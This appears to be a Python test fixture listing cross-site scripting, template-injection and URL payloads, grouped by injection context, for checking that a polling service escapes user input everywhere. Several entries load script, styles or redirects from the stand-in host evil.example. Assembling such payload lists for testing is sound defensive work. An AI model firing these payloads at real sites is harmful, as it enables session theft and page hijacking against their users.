"""Texts that run as a script, or ask another host for something, wherever one place forgets to escape them.

After OWASP's filter evasion cheat sheet, PortSwigger's and html5sec's lists. Each is short enough for what
readers may write; the host that they name may be asked for nothing.
"""

from collections.abc import Sequence

HTML = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type=module>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=//evil.example/p.png>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>@import'//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Vote</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<pollsvc-poll poll=x src=//evil.example></pollsvc-poll>",
)
OUT_OF_AN_ELEMENT = (
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "]]></title><script>alert(1)</script>",
)
OUT_OF_AN_ATTRIBUTE = (
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    '" autofocus onfocus=alert(1) x="',
    "` onfocus=alert(1) autofocus ",
    '"><svg onload=alert(1)>',
    "'><svg onload=alert(1)>",
    "x onerror=alert(1) src=x ",
)
ADDRESS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/%2f..",
    "https://evil.example\\@polls.example/",
)
SVG = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
)
TEMPLATE = (
    "{{7*7}}{{constructor.constructor('alert(1)')()}}",
    "{% include 'admin/base.html' %}{{ config }}",
    "${alert(1)}`${alert(1)}`",
    "#{alert(1)} <%= alert(1) %>",
    "%(alert)s {0.__class__} %s",
)
IN_A_SCRIPT = (
    "';alert(1);//",
    '";alert(1);//',
    '\\";alert(1);//',
    '"}</script><script>alert(1)</script>',
    "\u2028alert(1)\u2029",
    '{"__proto__":{"x":"alert(1)"}}',
    "<!--<script>",
)
UNICODE = (
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e<img src=x onerror=alert(1)>",
    "<img src=x one\u200brror=alert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "![x](//evil.example/p.png)",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[[x|//evil.example]] \\href{javascript:alert(1)}{x}",
)

PAYLOADS: Sequence[str] = (
    *(*HTML, *OUT_OF_AN_ELEMENT, *OUT_OF_AN_ATTRIBUTE, *ADDRESS, *SVG),
    *(*TEMPLATE, *IN_A_SCRIPT, *UNICODE, *MARKDOWN),
)
